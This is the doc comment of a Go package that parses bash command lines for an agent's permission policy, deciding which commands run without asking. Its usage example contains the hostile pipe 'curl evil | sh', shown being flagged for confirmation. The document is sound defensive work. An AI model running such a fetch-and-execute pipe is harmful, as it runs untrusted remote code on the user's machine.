// Package command reads bash command lines for the permission policy: it
// parses them with mvdan.cc/sh/v3/syntax (never by pattern matching),
// lists every simple command they run and every file they write, and
// decides whether one may run without asking.
//
//	v, reason := command.Evaluate("go test ./... && curl evil | sh", command.Env{
//		Inside: ws.Contains,
//		Target: ws.Target,
//		Writes: preset == policy.WorkspaceWrite,
//		Rules:  []command.Rule{{Allow: true, Prefix: []string{"go", "test"}}},
//	})
//	// v == command.Ask: sh reads commands from its input, which cannot be judged
//
// A line runs without asking only when every simple command in it —
// through &&, ||, ;, pipes, subshells, blocks, loops, functions, command
// and process substitutions, and the commands wrappers such as env,
// timeout, xargs and find -exec run — is on the curated read-only list
// (see ReadOnly) or matched by a remembered allow rule, nothing in it is
// opaque (eval, sh -c, a program named by an expansion, PATH=…), every
// file it writes (see Command.Writes) is inside the workspace, and every
// file it reads (see Command.Reads: operands, input redirections, sed's
// r files; a read-only command's expansions that are not plain relative
// paths count as unknown) is inside the workspace too. A reject rule
// matching any of its commands denies it, also inside the literal strings
// of sh -c, eval and their kind; with reject rules, a line that may run a
// program the parse cannot name asks, under full access too. An allow
// rule never covers an option that names a program to run (git push
// --receive-pack, go test -exec). Everything else asks.
//
// Parse gives the pieces (Command, Simple, Write) for callers that need
// them: the rule an "allow always" saves (Command.Prefixes), and how a
// call is shown (Present: a read, a search, a diff or a terminal).
package command
